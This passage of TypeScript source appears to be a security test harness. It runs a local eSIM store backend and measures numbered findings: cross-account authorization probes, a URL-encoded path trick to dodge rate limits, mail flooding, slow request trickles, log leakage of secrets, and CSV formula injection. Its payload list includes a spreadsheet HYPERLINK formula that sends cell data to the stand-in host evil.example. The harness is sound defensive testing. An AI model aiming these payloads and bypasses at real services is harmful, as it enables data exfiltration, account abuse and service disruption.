      `registered again: coupon check ${check.status}, new order with it ${second.answer.status}: ` +
      `${isOk(second.answer) ? "REUSED" : "refused"}`,
    deletedOrder: first.orderId,
  };
}

/** Authorization probes: who may read or act on customer A's orders, eSIMs, invoice, payment, PIN, device, profile. */
async function authorizationProbes(context: {
  owner: Customer;
  other: Customer;
  ownerOrderId: string;
  support: Operator;
}): Promise<{ line: string; probes: number; leaks: string[] }> {
  const { owner, other, ownerOrderId, support } = context;
  const order = await call(`${API}/orders/${ownerOrderId}`, { address: owner.address, token: owner.token });
  const esimId = dig(order.body, "data", "esims", 0, "id");
  const paymentId = dig(order.body, "data", "payment", "id");
  const orderNumber = dig(order.body, "data", "number");
  if (typeof esimId !== "string" || typeof paymentId !== "string") {
    throw new Error(`the owner's order has no eSIM yet (${order.status})`);
  }
  const loggedOut = await signInAgain(owner);
  await call(`${API}/auth/logout`, { method: "POST", address: owner.address, token: loggedOut });

  const customerProbes: [string, string, CallOptions][] = [
    ["GET order", `${API}/orders/${ownerOrderId}`, {}],
    ["GET order by number", `${API}/orders/${String(orderNumber)}`, {}],
    ["pay order", `${API}/orders/${ownerOrderId}/pay`, { json: {} }],
    ["cancel order", `${API}/orders/${ownerOrderId}/cancel`, { method: "POST" }],
    ["invoice", `${API}/orders/${ownerOrderId}/invoice`, {}],
    ["payment", `${API}/payments/${paymentId}`, {}],
    ["GET eSIM", `${API}/esims/${esimId}`, {}],
    ["install secrets with the right PIN", `${API}/esims/${esimId}/install`, { json: { pin: PIN } }],
    ["cancellation request", `${API}/esims/${esimId}/cancellation`, { json: {} }],
    ["top-ups", `${API}/esims/${esimId}/topups`, {}],
    [
      "top-up quote",
      `${API}/checkout/quote`,
      { json: { packageId: planId, quantity: 1, currency: "DZD", topUpOf: esimId } },
    ],
  ];
  const ownOnly: [string, string, CallOptions][] = [
    ["GET me", `${API}/auth/me`, {}],
    ["PATCH profile", `${API}/profile`, { method: "PATCH", json: { name: "Someone Else", country: "DZ" } }],
    ["DELETE profile", `${API}/profile`, { method: "DELETE", json: { confirmation: "DELETE" } }],
    ["GET PIN", `${API}/profile/pin`, {}],
    ["set PIN", `${API}/profile/pin`, { method: "PUT", json: { pin: "0000" } }],
    ["PIN reset code", `${API}/profile/pin/reset/code`, { method: "POST" }],
    ["PIN reset", `${API}/profile/pin/reset`, { json: { code: "123456", pin: "0000" } }],
    ["GET orders", `${API}/orders`, {}],
    ["GET eSIMs", `${API}/esims`, {}],
    ["save device", `${API}/devices`, { json: deviceRecord("owner-phone", "push-token-of-someone-else") }],
  ];
  const consoleProbes: [string, string, CallOptions][] = [
    ["console me", `${ADMIN}/me`, {}],
    ["console orders", `${ADMIN}/orders`, {}],
    ["console customers", `${ADMIN}/customers`, {}],
    ["console invoices export", `${ADMIN}/invoices/export.csv?from=2026-01-01&to=2026-12-31`, {}],
    ["console audit log", `${ADMIN}/audit-log`, {}],
    ["console coupons", `${ADMIN}/coupons`, {}],
    ["console operators", `${ADMIN}/operators`, {}],
  ];
  const adminOnly = consoleProbes.filter(([label]) =>
    ["console invoices export", "console audit log", "console coupons", "console operators"].includes(label),
  );
  const spell = (target: string) => target.replace(/^\/api\//, "/%61pi/");
  const probes: { label: string; target: string; options: CallOptions }[] = [];
  const garbage = "x".repeat(43);
  for (const [label, target, options] of customerProbes) {
    for (const [who, token] of [
      ["another customer", other.token],
      ["no token", undefined],
      ["a garbage token", garbage],
      ["the owner's ended session", loggedOut],
    ] as const) {
      probes.push({ label: `${label}, ${who}`, target, options: { ...options, token } });
      probes.push({ label: `${label}, ${who}, /%61pi/`, target: spell(target), options: { ...options, token } });
    }
  }
  for (const [label, target, options] of ownOnly) {
    for (const [who, token] of [
      ["no token", undefined],
      ["a garbage token", garbage],
      ["the owner's ended session", loggedOut],
    ] as const) {
      probes.push({ label: `${label}, ${who}`, target, options: { ...options, token } });
    }
  }
  for (const [label, target, options] of consoleProbes) {
    for (const [who, token] of [
      ["a customer", other.token],
      ["no token", undefined],
      ["a garbage token", garbage],
    ] as const) {
      probes.push({ label: `${label}, ${who}`, target, options: { ...options, token } });
      probes.push({ label: `${label}, ${who}, /%61pi/`, target: spell(target), options: { ...options, token } });
    }
  }
  for (const [label, target, options] of adminOnly) {
    probes.push({ label: `${label}, a support operator`, target, options: { ...options, token: support.token } });
  }
  const leaks: string[] = [];
  const answers = await inPool(probes.length, 4, async (index) => {
    const probe = probes[index]!;
    // Probes from a few addresses: the general limit is not what is measured here.
    const answer = await call(probe.target, { ...probe.options, address: `10.250.0.${(index % 200) + 1}` });
    if (![401, 403, 404].includes(answer.status)) leaks.push(`${probe.label} → ${answer.status}`);
    return answer;
  });
  // The other customer saves a device under the owner's device id: the owner's record must not change.
  const ownerDevice = await call(`${API}/devices`, {
    address: owner.address,
    token: owner.token,
    json: deviceRecord("owner-phone", "push-token-of-the-owner"),
  });
  const taken = await call(`${API}/devices`, {
    address: other.address,
    token: other.token,
    json: deviceRecord("owner-phone", "push-token-of-the-thief"),
  });
  const { rows } = await database.query<{ count: number }>(
    `select count(*)::int as count from devices d join users u on u.id = d.user_id
      where u.email = $1 and d.device_id = 'owner-phone' and d.push_token = 'push-token-of-the-owner'`,
    [owner.email],
  );
  const isDeviceKept = isOk(ownerDevice) ? (rows[0]?.count ?? 0) === 1 : true;
  if (!isDeviceKept) leaks.push(`the owner's device record changed by another customer (save ${taken.status})`);
  const total = probes.length + 1;
  const wrong = leaks.length;
  const successes = answers.filter(isOk).length;
  return {
    line: `${total} probes: ${statusCounts(answers)}; answers other than 401/403/404: ${wrong} (of which 2xx: ${successes})${wrong ? ` — ${leaks.slice(0, 6).join("; ")}` : ""}`,
    probes: total,
    leaks,
  };
}

function deviceRecord(deviceId: string, pushToken: string) {
  return {
    device_id: deviceId,
    platform: "Android",
    model: "Pixel 8",
    os_version: "15",
    device_type: "android",
    device_locale: "fr-DZ",
    timezone: "Africa/Algiers",
    push_token: pushToken,
    app_version: "1.0.0",
  };
}

/** A second session of the customer (a new code), to end it and probe with its dead token. */
async function signInAgain(customer: Customer): Promise<string> {
  await ageCodes(customer.email);
  const startedAt = Date.now() - 1;
  await call(`${API}/auth/code`, { address: customer.address, json: { email: customer.email } });
  const code = await waitForCode(customer.email, startedAt);
  const verified = code
    ? await call(`${API}/auth/verify`, { address: customer.address, json: { email: customer.email, code } })
    : undefined;
  const token = dig(verified?.body, "data", "token");
  return typeof token === "string" ? token : generateToken();
}

/** Finding 4: the accountant's invoice export with formula-leading billing names. */
const FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "-2+3", "@SUM(1,1)"];

function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let isQuoted = false;
  for (let index = 0; index < text.length; index++) {
    const char = text[index]!;
    if (isQuoted) {
      if (char === '"' && text[index + 1] === '"') {
        cell += '"';
        index++;
      } else if (char === '"') isQuoted = false;
      else cell += char;
    } else if (char === '"') isQuoted = true;
    else if (char === ",") {
      row.push(cell);
      cell = "";
    } else if (char === "\n" || char === "\r") {
      if (char === "\r" && text[index + 1] === "\n") index++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
    } else cell += char;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

async function invoiceExport(admin: Operator, acceptedNames: Map<string, string>): Promise<string> {
  const today = new Intl.DateTimeFormat("en-CA", { timeZone: "Africa/Algiers" }).format(new Date());
  const answer = await call(`${ADMIN}/invoices/export.csv?from=${today}&to=${today}`, { token: admin.token });
  if (!isOk(answer)) return `export answered ${answer.status}`;
  const cells = parseCsv(answer.text.replace(/^\uFEFF/, "")).flat();
  const parts = FORMULA_NAMES.map((name) => {
    if (!acceptedNames.has(name)) return `${name} refused at checkout`;
    if (cells.includes(name)) return `${name} RAW`;
    if (cells.some((cell) => cell.endsWith(name) && /^['\t]/.test(cell))) return `${name} escaped`;
    return `${name} not in the export`;
  });
  const raw = parts.filter((part) => part.endsWith("RAW")).length;
  return `${raw} of ${FORMULA_NAMES.length} formula names written unescaped: ${parts.join("; ")}`;
}

/** Finding 6: the product's own log output, and what the outbox keeps once emails are sent. */
async function secretsKept(log: string, deletedEmail: string | undefined): Promise<string> {
  const mails = smtp.mails;
  const codes = new Set<string>();
  const activationCodes = new Set<string>();
  const lines = new Set<string>();
  for (const mail of mails) {
    const isInstallEmail = mail.text.includes("LPA:1$");
    // A code email's six digits; an order number (ES26-000123) is not one.
    if (!isInstallEmail) for (const match of mail.text.matchAll(/(?<![\d.-])(\d{6})(?![\d.])/g)) codes.add(match[1]!);
    for (const match of mail.text.matchAll(/LPA:1\$[^\s"<>]+/g)) activationCodes.add(match[0]);
    for (const line of mail.text.split(/\r?\n/)) {
      const trimmed = line.trim();
      if (trimmed.length >= 40 && !trimmed.includes("<") && !/^[\w-]+:\s/.test(trimmed)) lines.add(trimmed);
    }
  }
  const codePattern = (code: string) => new RegExp(`(?<![\\d.-])${code}(?![\\d.])`);
  const codesFound = [...codes].filter((code) => codePattern(code).test(log));
  const codesInLog = codesFound.length;
  const sampleAt = codesFound[0] ? log.search(codePattern(codesFound[0])) : -1;
  const sample =
    sampleAt >= 0 ? ` e.g. …${log.slice(Math.max(0, sampleAt - 40), sampleAt + 6).replace(/\s+/g, " ")}…` : "";
  const activationInLog = [...activationCodes].filter((code) => log.includes(code)).length;
  const lpaMentions = log.split("LPA:1$").length - 1;
  const linesInLog = [...lines].filter((line) => log.includes(line)).length;
  const refused = mails.filter((mail) => mail.isRefused).length;

  const { rows } = await database.query<{ status: string; row: string }>(
    "select status, row_to_json(m)::text as row from mail_outbox m",
  );
  const sent = rows.filter((row) => row.status === "sent");
  const sentWithSecrets = sent.filter((row) => /LPA:1\$|contentBase64|qrCodeOf/.test(row.row));
  const bytes = sent.reduce((sum, row) => sum + Buffer.byteLength(row.row), 0);
  const ofDeleted = deletedEmail ? rows.filter((row) => row.row.includes(deletedEmail)).length : 0;
  return (
    `log: ${codesInLog} of ${codes.size} emailed codes${sample}, ${activationInLog} of ${activationCodes.size} activation codes ` +
    `(${lpaMentions} "LPA:1$" in all), ${linesInLog} of ${lines.size} email text lines (SMTP refused ${refused} install ` +
    `email tries on purpose); outbox: ${sent.length} sent rows, ${sentWithSecrets.length} still holding an activation ` +
    `code or QR, ${(bytes / 1024).toFixed(0)} KB; ${ofDeleted} rows still naming a deleted account's email`
  );
}

/** Finding 11: sign-in emails to K new addresses from L client addresses, all at once. */
async function mailFlood(): Promise<string> {
  const emails = Array.from({ length: COUNTS.floodEmails }, () => newEmail("flood"));
  const addresses = Array.from({ length: COUNTS.floodAddresses }, () => newAddress());
  const mailsBefore = smtp.mails.length;
  const startedAt = Date.now();
  const answers = await inPool(emails.length, 20, (index) =>
    call(`${API}/auth/code`, { address: addresses[index % addresses.length]!, json: { email: emails[index] } }),
  );
  const seconds = (Date.now() - startedAt) / 1000;
  await sleep(smtpDelayMs + 1_000);
  const targets = new Set(emails);
  const delivered = smtp.mails
    .slice(mailsBefore)
    .filter((mail) => mail.to.some((recipient) => targets.has(recipient))).length;
  return (
    `${emails.length} sign-in code requests for ${emails.length} addresses from ${addresses.length} client addresses in ` +
    `${seconds.toFixed(1)} s: ${statusCounts(answers)}; ${delivered} emails sent`
  );
}

/** Finding 14: the lockfile's engines against the Node version the project names. */
function enginesCheck(): string {
  const lock = JSON.parse(readFileSync(path.join(REPO_ROOT, "package-lock.json"), "utf8")) as {
    packages: Record<
      string,
      { version?: string; engines?: unknown; optional?: boolean; os?: string[]; cpu?: string[]; name?: string }
    >;
  };
  const rootPackage = JSON.parse(readFileSync(path.join(REPO_ROOT, "package.json"), "utf8")) as {
    engines?: { node?: string };
  };
  const nodeRange = rootPackage.engines?.node ?? ">=20";
  const node = semver.minVersion(nodeRange)?.version ?? "20.0.0";
  const outside: string[] = [];
  for (const [key, entry] of Object.entries(lock.packages)) {
    if (!key.startsWith("node_modules/") && !key.includes("/node_modules/")) continue;
    if (entry.os && !entry.os.includes(process.platform)) continue;
    if (entry.cpu && !entry.cpu.includes(process.arch)) continue;
    const engines = entry.engines as { node?: unknown } | undefined;
    const range = typeof engines?.node === "string" ? engines.node : undefined;
    if (!range || !semver.validRange(range)) continue;
    if (!semver.satisfies(node, range, { includePrerelease: true })) {
      outside.push(`${key.slice(key.lastIndexOf("node_modules/") + 13)}@${entry.version} (node ${range})`);
    }
  }
  const unique = [...new Set(outside)];
  return `on Node ${node} (package.json engines "${nodeRange}"): ${unique.length} locked packages outside their engines${unique.length ? `: ${unique.slice(0, 8).join(", ")}` : ""}`;
}

/** Finding 15's settings: what loadConfig accepts in production, and the development listen address. */
function productionSettings(strong: Record<string, string>): string {
  const accepts = (env: Record<string, string>) => {
    try {
      loadConfig(env);
      return "ACCEPTED";
    } catch (error) {
      return `refused (${String(error instanceof Error ? error.message : error)
        .split("\n")
        .slice(1, 2)
        .join("")
        .trim()
        .slice(0, 80)})`;
    }
  };
  const baseline = accepts(strong);
  const weak: [string, string][] = [
    ["CHARGILY_SECRET_KEY", "x"],
    ["ESIM_WEBHOOK_TOKEN", "a".repeat(16)],
    ["OPERATOR_TOTP_KEY", "a".repeat(32)],
  ];
  const verdicts = weak.map(
    ([name, value]) =>
      `${name}=${value.length > 3 ? `${value[0]}×${value.length}` : value} ${accepts({ ...strong, [name]: value })}`,
  );
  let host: string;
  try {
    host = loadConfig({ NODE_ENV: "development" }).HOST;
  } catch (error) {
    host = `? (${String(error).slice(0, 60)})`;
  }
  return `production with strong secrets ${baseline}; weak: ${verdicts.join("; ")}; development listens on ${host} unless HOST`;
}

/** Finding 15: the OpenAPI document's auth against what each endpoint answers without a token. */
async function openApiVersusEnforced(): Promise<string> {
  const docs = await call("/api/docs/json");
  if (!isOk(docs) || typeof docs.body !== "object") return `GET /api/docs/json answered ${docs.status} in development`;
  const paths = (dig(docs.body, "paths") ?? {}) as Record<string, Record<string, { security?: unknown[] }>>;
  const probes: { method: string; path: string; isDocumentedSecured: boolean }[] = [];
  for (const [route, operations] of Object.entries(paths)) {
    if (/\/webhooks\/|^\/sandbox|^\/dev\//.test(route)) continue;
    for (const [method, operation] of Object.entries(operations)) {
      if (!["get", "post", "put", "patch", "delete"].includes(method)) continue;
      probes.push({
        method: method.toUpperCase(),
        path: route.replace(/\{[^}]+\}/g, () => randomUUID()),
        isDocumentedSecured: Array.isArray(operation.security) && operation.security.length > 0,
      });
    }
  }
  const securedButOpen: string[] = [];
  const publicButClosed: string[] = [];
  let address = newAddress();
  const answers = await inPool(probes.length, 4, async (index) => {
    if (index % 40 === 39) address = newAddress();
    const probe = probes[index]!;
    const answer = await call(probe.path, {
      method: probe.method,
      address,
      ...(probe.method === "GET" ? {} : { json: {} }),
    });
    const label = `${probe.method} ${probe.path.replace(/[0-9a-f-]{36}/g, ":id").replace(/^\/api\/v1/, "")}`;
    if (probe.isDocumentedSecured && answer.status !== 401 && answer.status !== 403) {
      securedButOpen.push(`${label} ${answer.status}`);
    }
    if (!probe.isDocumentedSecured && answer.status === 401) publicButClosed.push(label);
    return answer;
  });
  const secured = probes.filter((probe) => probe.isDocumentedSecured).length;
  const validationFirst = securedButOpen.filter((entry) => entry.endsWith(" 400")).length;
  return (
    `${answers.length} documented endpoints asked without a token (${secured} documented with bearer): ` +
    `${securedButOpen.length} documented bearer answer something else than 401 (${validationFirst} of them 400: ` +
    `validation before authentication${securedButOpen.length ? `, e.g. ${securedButOpen.slice(0, 3).join(", ")}` : ""}); ` +
    `${publicButClosed.length} documented public answer 401${publicButClosed.length ? ` (${publicButClosed.join(", ")})` : ""}`
  );
}

// ---------------------------------------------------------------------------------------------------------

async function main() {
  const runStartedAt = Date.now();
  const dataDir = await mkdtemp(path.join(tmpdir(), "esim-attack-pg-"));
  const pgPort = await freePort();
  currentPostgres = await startEmbeddedPostgres({ dataDir, port: pgPort });
  const databaseUrl = currentPostgres.url;
  database = new pg.Pool({ connectionString: databaseUrl, max: 4 });
  database.on("error", () => {});
  smtp = await startSmtpStub({ delayMs: smtpDelayMs, refuseFirstInstallEmails: 3 });
  const port = await freePort();
  baseUrl = `http://127.0.0.1:${port}`;
  const webhookToken = randomBytes(24).toString("hex");
  const product = spawnProduct(
    {
      NODE_ENV: "development",
      PROCESS_ROLE: "all",
      HOST: "127.0.0.1",
      PORT: String(port),
      PUBLIC_URL: baseUrl,
      DATABASE_URL: databaseUrl,
      TRUST_PROXY: "true",
      LOG_LEVEL: "info",
      SMTP_URL: `smtp://127.0.0.1:${smtp.port}`,
      WEB_DIST_DIR: "/nonexistent",
      ESIM_WEBHOOK_TOKEN: webhookToken,
      SIMULATOR_ALLOCATION_SECONDS: "1",
      SIMULATOR_NOTIFY_SECONDS: "5",
      WORKER_CONCURRENCY: "10",
      WORKER_DEAD_AFTER_SECONDS: "10",
    },
    "the product",
  );
  let trickles: ReturnType<typeof startTrickles> | undefined;
  let trickleStartedAt = 0;
  const processes: Product[] = [product];
  const globals = { probes: 0, leaks: [] as string[] };
  try {
    console.info(
      `attack-run: scale ${scale} (${JSON.stringify(COUNTS)}), SMTP ${smtpDelayMs} ms a message, product on ${baseUrl}`,
    );
    if (!(await waitUntilAnswering(product, baseUrl))) {
      console.error(`the product did not start:\n${product.log().slice(-4000)}`);
      process.exitCode = 1;
      return;
    }
    console.info(`product answering after ${((Date.now() - runStartedAt) / 1000).toFixed(1)} s`);
    operatorDb = connectDatabase(databaseUrl, { max: 2 });

    trickles = startTrickles(COUNTS.trickles, port);
    trickleStartedAt = Date.now();

    // The catalogue as the worker synced it: the cheapest plan of Türkiye over 200 DZD (a 10 % coupon stays payable).
    const catalogueDeadline = Date.now() + 60_000;
    while (!planId && Date.now() < catalogueDeadline) {
      const plans = dig((await call(`${API}/destinations/TR/packages`)).body, "data", "plans");
      if (Array.isArray(plans)) {
        const sellable = plans
          .filter((plan) => Number(dig(plan, "price", "DZD")) >= 20_000)
          .sort((left, right) => Number(dig(left, "price", "DZD")) - Number(dig(right, "price", "DZD")));
        const id = dig(sellable[0], "id");
        if (typeof id === "string") planId = id;
      }
      if (!planId) await sleep(500);
    }
    if (!planId) throw new Error("no plan for TR after a minute");

    const [admin, support, ...timingOperators] = await Promise.all([
      addOperator("admin"),
      addOperator("support"),
      ...Array.from({ length: 6 }, () => addOperator("support")),
    ]);
    const labels = [
      "owner",
      "other",
      "buyer1",
      "buyer2",
      "buyer3",
      "buyer4",
      "hoarder",
      "holder",
      "bystander",
      "thief",
      "names",
      "returner",
    ];
    const signedUp = await Promise.all(labels.map((label) => signUp(label)));
    const customer = Object.fromEntries(labels.map((label, index) => [label, signedUp[index]!])) as Record<
      string,
      Customer
    >;
    const owner = customer.owner!;
    const other = customer.other!;
    console.info(`${labels.length} customers and 8 operators ready; plan ${planId}`);

    // Ordinary buyers: paid orders (every second webhook delivered twice), the owner's among them; then the
    // formula-named orders of finding 4, paid too.
    for (const who of [owner, other]) {
      await call(`${API}/profile/pin`, { method: "PUT", address: who.address, token: who.token, json: { pin: PIN } });
    }
    const buyers = [owner, customer.buyer1!, customer.buyer2!, customer.buyer3!, customer.buyer4!];
    const paidOrderIds: string[] = [];
    let ownerOrderId: string | undefined;
    await inPool(buyers.length, buyers.length, async (buyerIndex) => {
      const buyer = buyers[buyerIndex]!;
      for (let index = buyerIndex; index < COUNTS.paidOrders; index += buyers.length) {
        const order = await placeOrder(buyer);
        if (!order.orderId) continue;
        if (await payThroughPage(order, buyer.address)) paidOrderIds.push(order.orderId);
        if (buyer === owner) ownerOrderId ??= order.orderId;
        if (index % 2 === 1) await replayPaidWebhook(order.orderId).catch(() => {});
      }
    });
    const acceptedFormulaNames = new Map<string, string>();
    for (const name of FORMULA_NAMES) {
      const order = await placeOrder(customer.buyer1!, { name });
      if (order.orderId && (await payThroughPage(order, customer.buyer1!.address))) {
        acceptedFormulaNames.set(name, order.orderId);
      }
    }
    console.info(`${paidOrderIds.length} paid orders placed`);

    console.info("findings:");
    await measure("1", rateLimitSpellings);
    await measure("2", () => unpaidOrders(customer.hoarder!, customer.holder!, customer.bystander!, admin!));
    await measure("3", async () => {
      const customerSide = await lockOut({
        label: "customer",
        email: newEmail("lockout-victim"),
        requestPath: `${API}/auth/code`,
        verifyPath: `${API}/auth/verify`,
      });
      const operatorVictim = await addOperator("support");
      const operatorSide = await lockOut({
        label: "operator",
        email: operatorVictim.email,
        requestPath: `${ADMIN}/auth/code`,
        verifyPath: `${ADMIN}/auth/verify`,
      });
      return `${customerSide} | ${operatorSide}`;
    });
    await measure("7", () => pinResetGuesses(customer.thief!));
    await measure("8", () => operatorTiming(timingOperators));
    await measure("10", registerPrefill);
    await measure("12", () => hostileNames(customer.names!));
    let deletedEmail: string | undefined;
    await measure("13", async () => {
      const result = await couponAfterDeletion(customer.returner!, admin!);
      if (result.deletedOrder) deletedEmail = customer.returner!.email;
      return result.line;
    });
    await measure("leaks", async () => {
      if (!ownerOrderId) throw new Error("the owner has no paid order");
      if (!(await waitForStatus(ownerOrderId, "delivered", 30_000))) throw new Error("the owner's order not delivered");
      const result = await authorizationProbes({ owner, other, ownerOrderId, support: support! });
      globals.probes = result.probes;
      globals.leaks = result.leaks;
      return result.line;
    });
    await measure("15", async () => {
      const signedOutDelete = await call(`${API}/profile`, { method: "DELETE", json: { confirmation: "DELETE" } });
      const signedOutDeleteNoBody = await call(`${API}/profile`, { method: "DELETE" });
      // The upstream's webhook with its secret path, as eSIM Access (and the simulator every 5 s) posts it.
      await call(`${API}/webhooks/esim/simulator/${webhookToken}`, {
        json: { notifyType: "ESIM_STATUS", content: { iccid: "89000000000000000000" } },
      });
      await sleep(200);
      const tokenLines = product
        .log()
        .split("\n")
        .filter((line) => line.includes(webhookToken)).length;
      const openApi = await openApiVersusEnforced();
      const production = await productionChecks(databaseUrl, processes);
      return (
        `signed-out DELETE /profile ${signedOutDelete.status} (without a body ${signedOutDeleteNoBody.status}); ` +
        `the eSIM webhook's secret token in ${tokenLines} log lines; ${production}; OpenAPI: ${openApi}`
      );
    });
    await measure("11", mailFlood);
    await measure("14", async () => enginesCheck());
    await measure("4", async () => {
      await Promise.all([...acceptedFormulaNames.values()].map((id) => waitForStatus(id, "delivered", 20_000)));
      return invoiceExport(admin!, acceptedFormulaNames);
    });
    // Before any fault: a process that dies closes its sockets too.
    const trickleWaitMs = trickleStartedAt + trickleSeconds * 1000 - Date.now();
    if (trickleWaitMs > 0) await sleep(trickleWaitMs);
    const trickleOpen = trickles.stillOpen();
    const trickleCut = trickles.cut();
    trickles.close();
    report.set(
      "9",
      `${COUNTS.trickles} trickling request bodies (a byte every 2 s): ${trickleOpen} still open after ${((Date.now() - trickleStartedAt) / 1000).toFixed(0)} s, ${trickleCut} cut or answered`,
    );
    if (flags["db-restart"]) {
      await measure("5", () => databaseRestart({ dataDir, pgPort, product, buyer: customer.buyer2! }));
    } else {
      report.set(
        "5",
        "not run (--db-restart to stop PostgreSQL under traffic; the database-restart test is the check)",
      );
    }

    // Every paid order delivered, or the wait is over (at once when the product is gone).
    const deliveryDeadline = Date.now() + DELIVERY_WAIT_MS;
    while (Date.now() < deliveryDeadline && product.isRunning()) {
      const { rows } = await database
        .query<{ count: number }>(
          `select count(*)::int as count from orders o
            where exists (select 1 from payments p where p.order_id = o.id and p.status = 'successful')
              and o.status not in ('delivered', 'refunded', 'refund_due')`,
        )
        .catch(() => ({ rows: [{ count: -1 }] }));
      if (rows[0]?.count === 0) break;
      await sleep(500);
    }
    await measure("6", () => secretsKept(product.log(), deletedEmail));
    if (flags["log-file"]) await writeFile(flags["log-file"], product.log());
    const money = await moneyFigures();
    printReport({ money, globals, product, runStartedAt });
  } finally {
    trickles?.close();
    for (const running of processes) await running.stop();
    await smtp.close();
    await operatorDb?.close().catch(() => {});
    await database.end().catch(() => {});
    await currentPostgres?.stop().catch(() => {});
    await rm(dataDir, { recursive: true, force: true });
  }
}

/** Finding 5 (optional): PostgreSQL stopped under light traffic, then started again; paid orders after it. */
async function databaseRestart(options: {
  dataDir: string;
  pgPort: number;
  product: Product;
  buyer: Customer;
}): Promise<string> {
  const { product, buyer } = options;
  const answers: Answer[] = [];
  let isTrafficOn = true;
  const traffic = (async () => {
    while (isTrafficOn) {
      answers.push(await call(`${API}/orders`, { address: buyer.address, token: buyer.token, timeoutMs: 5_000 }));
      answers.push(await call(`${API}/catalog/summary`, { timeoutMs: 5_000 }));
      await sleep(250);
    }
  })();
  await sleep(1_000);
  // Paid orders whose provisioning and install emails run into the outage.
  const inFlight: string[] = [];
  for (let index = 0; index < 2; index++) {
    const order = await placeOrder(buyer);
    if (order.orderId && (await payThroughPage(order, buyer.address))) inFlight.push(order.orderId);
  }
  for (const orderId of inFlight) faultOrderIds.add(orderId);
  isFaultActive = true;
  await currentPostgres?.stop();
  const stoppedAt = Date.now();
  await sleep(dbStopSeconds * 1000);
  currentPostgres = await startEmbeddedPostgres({ dataDir: options.dataDir, port: options.pgPort });
  const restartedAt = Date.now();
  await sleep(5_000);
  isTrafficOn = false;
  await traffic;
  const duringFault = answers.filter((answer) => answer.status >= 500 || answer.status === 0);
  const ready = await call("/readyz");
  // What follows is the fault's consequence too: its 5xx and missing answers are counted with it.
  const placed: string[] = [];
  for (let index = 0; index < 3 && product.isRunning(); index++) {
    const order = await placeOrder(buyer);
    if (order.orderId && (await payThroughPage(order, buyer.address))) placed.push(order.orderId);
  }
  const delivered = async (orderIds: string[]) =>
    product.isRunning()
      ? (await Promise.all(orderIds.map((orderId) => waitForStatus(orderId, "delivered", 60_000)))).filter(Boolean)
          .length
      : 0;
  const [inFlightDelivered, deliveredAfter] = await Promise.all([delivered(inFlight), delivered(placed)]);
  isFaultActive = false;
  return (
    `PostgreSQL stopped ${((restartedAt - stoppedAt) / 1000).toFixed(0)} s under light traffic: the product ` +
    `${product.isRunning() ? "kept running" : "EXITED"}; answers meanwhile: ${statusCounts(duringFault)} (5xx or none), ` +
    `${answers.filter((answer) => answer.status === 500).length}×500; /readyz 5 s after the restart ${ready.status}; ` +
    `delivered within 60 s: ${inFlightDelivered} of ${inFlight.length} orders paid just before the stop, ` +
    `${deliveredAfter} of ${placed.length} paid after the restart`
  );
}
/** Orders paid just before the database stop: if they are lost, the fault lost them. */
const faultOrderIds = new Set<string>();

/** The embedded PostgreSQL now running (a new one after --db-restart). */
let currentPostgres: EmbeddedServer | undefined;

/** Finding 15 in production: a `web` process with production settings (chargily, eSIM Access, SMTP, strong secrets). */
async function productionChecks(databaseUrl: string, processes: Product[]): Promise<string> {
  const port = await freePort();
  const origin = `http://127.0.0.1:${port}`;
  const strong = (bytes: number) => randomBytes(bytes).toString("base64url");
  const env: Record<string, string> = {
    NODE_ENV: "production",
    PROCESS_ROLE: "web",
    HOST: "127.0.0.1",
    PORT: String(port),
    PUBLIC_URL: "https://shop.example.com",
    DATABASE_URL: databaseUrl,
    LOG_LEVEL: "info",
    SMTP_URL: `smtp://127.0.0.1:${smtp.port}`,
    WEB_DIST_DIR: "/nonexistent",
    PAYMENT_PROVIDER: "chargily",
    CHARGILY_BASE_URL: "https://pay.chargily.net/api/v2",
    CHARGILY_SECRET_KEY: `live_sk_${strong(36)}`,
    ESIM_PROVIDER: "esim-access",
    ESIM_ACCESS_BASE_URL: "http://127.0.0.1:9",
    ESIM_ACCESS_ACCESS_CODE: strong(24),
    ESIM_ACCESS_SECRET: strong(24),
    ESIM_WEBHOOK_TOKEN: strong(32),
    OPERATOR_TOTP_KEY: strong(36),
    METRICS_TOKEN: strong(24),
  };
  const settings = productionSettings(env);
  const production = spawnProduct(env, "the production web process");
  processes.push(production);
  if (!(await waitUntilAnswering(production, origin))) {
    const lastLines = production.log().trim().split("\n").slice(-3).join(" / ").slice(0, 200);
    return `${settings}; the production web process did not start (${lastLines})`;
  }
  const docs = await call("/api/docs", { origin });
  const docsJson = await call("/api/docs/json", { origin });
  await call(`${API}/webhooks/esim/esim-access/${env.ESIM_WEBHOOK_TOKEN}`, {
    origin,
    json: { notifyType: "CHECK_HEALTH", content: {} },
  });
  await sleep(200);
  const tokenLines = production
    .log()
    .split("\n")
    .filter((line) => line.includes(env.ESIM_WEBHOOK_TOKEN!)).length;
  await production.stop();
  return `${settings}; in production GET /api/docs ${docs.status}, /api/docs/json ${docsJson.status}, the webhook token in ${tokenLines} log lines`;
}

async function moneyFigures() {
  const query = async <Row extends pg.QueryResultRow>(sql: string) =>
    (await database.query<Row>(sql).catch(() => ({ rows: [] as Row[] }))).rows;
  const [statuses, paid, upstream, lost] = await Promise.all([
    query<{ status: string; count: number }>("select status, count(*)::int as count from orders group by status"),
    query<{ count: number }>("select count(distinct order_id)::int as count from payments where status = 'successful'"),
    query<{ orders: number; upstream: number; doubled: number }>(
      `select count(*)::int as orders, coalesce(sum(n), 0)::int as upstream,
              count(*) filter (where n > 1)::int as doubled
         from (select transaction_id, count(*) as n from simulator_orders group by transaction_id) s`,
    ),
    query<{ id: string }>(
      `select o.id from orders o
        where exists (select 1 from payments p where p.order_id = o.id and p.status = 'successful')
          and o.status not in ('delivered', 'refunded', 'refund_due')`,
    ),
  ]);
  const byStatus = Object.fromEntries(statuses.map((row) => [row.status, row.count]));
  const placed = statuses.reduce((sum, row) => sum + row.count, 0);
  return {
    placed,
    byStatus,
    paid: paid[0]?.count ?? 0,
    delivered: byStatus.delivered ?? 0,
    upstreamOrders: upstream[0]?.upstream ?? 0,
    ordersUpstream: upstream[0]?.orders ?? 0,
    doubled: upstream[0]?.doubled ?? 0,
    lost: lost.length,
    lostToFault: lost.filter((row) => faultOrderIds.has(row.id)).length,
  };
}

const FINDING_TITLES: [string, string][] = [
  ["1", "general rate limit by path spelling"],
  ["2", "unpaid orders from one account"],
